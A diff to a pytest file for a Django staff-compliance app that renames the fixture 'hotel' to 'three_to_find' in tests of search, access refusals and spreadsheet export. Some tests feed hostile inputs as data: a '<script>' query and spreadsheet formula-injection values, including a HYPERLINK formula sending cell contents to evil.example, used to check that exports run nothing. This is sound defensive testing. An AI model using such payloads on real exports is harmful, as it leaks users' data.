@@ -60,7 +60,7 @@ def test_the_database_folds_as_the_rule_does(name: str) -> None:
 
 
 @pytest.fixture
-def hotel(cast: Cast) -> Cast:
+def three_to_find(cast: Cast) -> Cast:
     """Amina (night porter), Łukasz (agency, day, Polish, number PL-07), Bogdan (certified)."""
     require(cast.area, cast.course)
     lukasz = worker(
@@ -100,9 +100,9 @@ def names(client: Client, **query: Any) -> set[str]:
     ],
 )
 def test_people_are_found(
-    client: Client, hotel: Cast, query: dict[str, str], found: set[str]
+    client: Client, three_to_find: Cast, query: dict[str, str], found: set[str]
 ) -> None:
-    assert names(sign_in(client, hotel.bruno), **query) == found
+    assert names(sign_in(client, three_to_find.bruno), **query) == found
 
 
 HOSTILE = (
@@ -120,9 +120,9 @@ HOSTILE = (
 
 @pytest.mark.parametrize("name", ["q", "role", "language", "course"])
 def test_hostile_words_find_nobody_and_break_nothing(
-    client: Client, hotel: Cast, name: str
+    client: Client, three_to_find: Cast, name: str
 ) -> None:
-    sign_in(client, hotel.bruno)
+    sign_in(client, three_to_find.bruno)
     for hostile in HOSTILE:
         for address in ("/manage/people.csv", "/manage/history/"):
             response = client.get(address, {name: hostile.encode("utf-8", "surrogatepass")})
@@ -132,8 +132,8 @@ def test_hostile_words_find_nobody_and_break_nothing(
     assert client.get("/manage/", {name: "<script>"}).status_code == 200
 
 
-def test_what_is_asked_stays_in_links_and_forms(client: Client, hotel: Cast) -> None:
-    page = sign_in(client, hotel.bruno).get(
+def test_what_is_asked_stays_in_links_and_forms(client: Client, three_to_find: Cast) -> None:
+    page = sign_in(client, three_to_find.bruno).get(
         "/manage/", {"q": "luk", "shift": "day", "standing": "overdue"}
     )
     text = page.content.decode()
@@ -146,60 +146,65 @@ def test_what_is_asked_stays_in_links_and_forms(client: Client, hotel: Cast) -> 
 
 
 def test_the_fragment_is_only_the_results_with_the_same_refusals(
-    client: Client, hotel: Cast
+    client: Client, three_to_find: Cast
 ) -> None:
     headers = {"HX-Request": "true"}
-    fragment = sign_in(client, hotel.bruno).get("/manage/", {"q": "luk"}, headers=headers)
+    fragment = sign_in(client, three_to_find.bruno).get("/manage/", {"q": "luk"}, headers=headers)
     assert "<html" not in fragment.content.decode()
     assert "Łukasz" in fragment.content.decode()
     assert "HX-Request" in fragment["Vary"]
     restored = client.get("/manage/", headers={**headers, "HX-History-Restore-Request": "true"})
     assert "<html" in restored.content.decode()
-    for who in (hotel.amina, hotel.esther):
+    for who in (three_to_find.amina, three_to_find.esther):
         assert sign_in(Client(), who).get("/manage/", headers=headers).status_code == 403
-    unit = {"unit": hotel.workplace.uuid}
-    assert sign_in(Client(), hotel.chloe).get("/manage/", unit, headers=headers).status_code == 403
+    unit = {"unit": three_to_find.workplace.uuid}
+    assert (
+        sign_in(Client(), three_to_find.chloe).get("/manage/", unit, headers=headers).status_code
+        == 403
+    )
 
 
-def test_another_place_is_a_page_of_its_own(client: Client, hotel: Cast) -> None:
+def test_another_place_is_a_page_of_its_own(client: Client, three_to_find: Cast) -> None:
     """The sentence above the results is about the place: it must not stay when the results are another's."""
-    Oversight.objects.filter(person=hotel.bruno).update(unit=hotel.area)
+    Oversight.objects.filter(person=three_to_find.bruno).update(unit=three_to_find.area)
     headers = {"HX-Request": "true", "HX-Current-URL": "http://testserver/manage/?q=amina"}
-    sign_in(client, hotel.bruno)
-    answer = client.get("/manage/", {"unit": hotel.workplace.uuid}, headers=headers)
-    assert answer["HX-Redirect"] == f"/manage/?unit={hotel.workplace.uuid}"
+    sign_in(client, three_to_find.bruno)
+    answer = client.get("/manage/", {"unit": three_to_find.workplace.uuid}, headers=headers)
+    assert answer["HX-Redirect"] == f"/manage/?unit={three_to_find.workplace.uuid}"
     assert "Amina" in client.get("/manage/", headers=headers).content.decode()
     broken = {**headers, "HX-Current-URL": "http://[broken"}
     assert client.get("/manage/", headers=broken).status_code == 200
 
 
 def test_many_rows_show_places_first_until_something_is_asked(
-    client: Client, hotel: Cast, monkeypatch: pytest.MonkeyPatch
+    client: Client, three_to_find: Cast, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(manage, "PLACES_FIRST", 2)
-    Oversight.objects.filter(person=hotel.bruno).update(unit=hotel.area)
-    page = sign_in(client, hotel.bruno).get("/manage/")
+    Oversight.objects.filter(person=three_to_find.bruno).update(unit=three_to_find.area)
+    page = sign_in(client, three_to_find.bruno).get("/manage/")
     assert "Amina" not in page.content.decode()
     ((place, counted),) = page.context["children"]
     assert (place.name, counted.people, counted.ready) == ("Riverside Hotels", 3, 1)
     assert names(client, q="amina") == {"Amina Yusuf"}
-    below = client.get("/manage/", {"unit": hotel.workplace.uuid})
+    below = client.get("/manage/", {"unit": three_to_find.workplace.uuid})
     assert "Amina" in below.content.decode()
     assert [unit.name for unit in below.context["above"]] == ["Thurrock", "Riverside Hotels"]
 
 
-def test_a_manager_sees_no_name_of_a_place_above_their_own(client: Client, hotel: Cast) -> None:
-    page = sign_in(client, hotel.bruno).get("/manage/")
+def test_a_manager_sees_no_name_of_a_place_above_their_own(
+    client: Client, three_to_find: Cast
+) -> None:
+    page = sign_in(client, three_to_find.bruno).get("/manage/")
     assert page.context["above"] == []
     assert "Thurrock" not in page.content.decode()
 
 
 def test_the_workbook_has_dates_a_fixed_header_and_runs_nothing(
-    client: Client, hotel: Cast
+    client: Client, three_to_find: Cast
 ) -> None:
-    worker(hotel.workplace, name="=1+1\x0b")
+    worker(three_to_find.workplace, name="=1+1\x0b")
     today = timezone.localdate()
-    response = sign_in(client, hotel.bruno).get("/manage/people.xlsx")
+    response = sign_in(client, three_to_find.bruno).get("/manage/people.xlsx")
     assert "attachment" in response["Content-Disposition"]
     sheet = load_workbook(io.BytesIO(b"".join(response))).active
     assert sheet is not None
@@ -215,11 +220,11 @@ def test_the_workbook_has_dates_a_fixed_header_and_runs_nothing(
 
 @pytest.mark.parametrize("sign", ["\x01", "\x0b", "\x1f", " \x02 "])
 def test_nothing_runs_that_hid_behind_a_control_sign(
-    client: Client, hotel: Cast, sign: str
+    client: Client, three_to_find: Cast, sign: str
 ) -> None:
     """In the workbook, where no such sign may stand, and in the file for every other program."""
-    worker(hotel.workplace, name=f'{sign}=HYPERLINK("https://evil.example/?"&A2)')
-    sign_in(client, hotel.bruno)
+    worker(three_to_find.workplace, name=f'{sign}=HYPERLINK("https://evil.example/?"&A2)')
+    sign_in(client, three_to_find.bruno)
     sheet = load_workbook(io.BytesIO(b"".join(client.get("/manage/people.xlsx")))).active
     assert sheet is not None
     assert not [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
@@ -229,9 +234,9 @@ def test_nothing_runs_that_hid_behind_a_control_sign(
 
 
 def test_the_workbook_runs_right_to_left_in_urdu_and_keeps_the_filters(
-    client: Client, hotel: Cast
+    client: Client, three_to_find: Cast
 ) -> None:
-    sign_in(client, hotel.bruno)
+    sign_in(client, three_to_find.bruno)
     response = client.get("/manage/people.xlsx", {"q": "zolc"}, headers={"accept-language": "ur"})
     sheet = load_workbook(io.BytesIO(b"".join(response))).active
     assert sheet is not None
@@ -249,23 +254,25 @@ def test_files_cost_the_same_for_ten_as_for_one(
     )
 
 
-def test_an_exemption_that_ended_and_one_that_binds(client: Client, hotel: Cast) -> None:
+def test_an_exemption_that_ended_and_one_that_binds(client: Client, three_to_find: Cast) -> None:
     """The chips count what the table shows."""
     today = timezone.localdate()
-    Obligation.objects.filter(person=hotel.amina).update(exempt_from=today, exempt_until=today)
+    Obligation.objects.filter(person=three_to_find.amina).update(
+        exempt_from=today, exempt_until=today
+    )
     Course.objects.create(code="unused", title="Unused")
-    page = sign_in(client, hotel.bruno).get("/manage/", {"standing": "exempt"})
+    page = sign_in(client, three_to_find.bruno).get("/manage/", {"standing": "exempt"})
     assert {row.person.name for row in page.context["page"].object_list} == {"Amina Yusuf"}
     counts = {chip["label"]: chip["count"] for chip in page.context["chips"]}
     assert str(counts["Exempt"]) == "1"
     assert page.context["overview"].people.people == 2
 
 
-def test_someone_who_works_twice_below_is_counted_once(client: Client, hotel: Cast) -> None:
-    annexe = hotel.hotels.add_child(name="Annexe", kind=Unit.Kind.WORKPLACE)
-    Membership.objects.create(person=hotel.amina, unit=annexe, from_on=date(2024, 5, 1))
-    recompute_obligations(people=[hotel.amina.pk], on=timezone.localdate())
-    Oversight.objects.filter(person=hotel.bruno).update(unit=hotel.area)
-    page = sign_in(client, hotel.bruno).get("/manage/")
+def test_someone_who_works_twice_below_is_counted_once(client: Client, three_to_find: Cast) -> None:
+    annexe = three_to_find.hotels.add_child(name="Annexe", kind=Unit.Kind.WORKPLACE)
+    Membership.objects.create(person=three_to_find.amina, unit=annexe, from_on=date(2024, 5, 1))
+    recompute_obligations(people=[three_to_find.amina.pk], on=timezone.localdate())
+    Oversight.objects.filter(person=three_to_find.bruno).update(unit=three_to_find.area)
+    page = sign_in(client, three_to_find.bruno).get("/manage/")
     assert page.context["overview"].people.people == 3
     assert page.context["overview"].rows == 4
